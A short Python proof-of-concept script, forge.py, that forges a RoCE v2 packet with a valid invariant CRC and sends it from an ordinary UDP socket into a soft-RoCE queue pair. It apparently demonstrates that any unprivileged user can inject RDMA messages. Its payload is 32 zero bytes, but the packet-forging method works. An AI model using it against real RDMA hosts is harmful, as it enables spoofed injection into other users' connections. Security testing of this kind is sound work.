#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Sends a message to an RC queue pair of soft-RoCE from a UDP socket, as any user may: 32 bytes of zeros.

usage: forge.py SOURCE DESTINATION QPN PSN
"""

from __future__ import annotations

import socket
import struct
import sys
import zlib

PORT = 4791
SEND_ONLY = 4
ANY_PKEY = 0xffff


def packet(source: bytes, destination: bytes, sender: int, bth: bytes, payload: bytes) -> bytes:
    """The payload of a datagram of RoCE v2. Fields that change on the way count as ones in its checksum (IBTA, annex A17)."""
    size = 8 + len(bth) + len(payload) + 4
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xff, 20 + size, 0, 0x4000, 0xff, socket.IPPROTO_UDP, 0xffff, source, destination)
    udp = struct.pack("!HHHH", sender, PORT, size, 0xffff)
    masked = b"\xff" * 8 + ip + udp + bth[:4] + b"\xff" + bth[5:]
    return bth + payload + struct.pack("<I", zlib.crc32(masked + payload))


def main() -> None:
    """Send it."""
    source, destination, qpn, psn = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        # Datagrams that may not be divided have the identification 0.
        udp.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO
        udp.bind((source, 0))
        bth = struct.pack("!BBHII", SEND_ONLY, 0, ANY_PKEY, qpn, psn)
        udp.sendto(packet(socket.inet_aton(source), socket.inet_aton(destination), udp.getsockname()[1], bth, bytes(32)),
                   (destination, PORT))


if __name__ == "__main__":
    main()
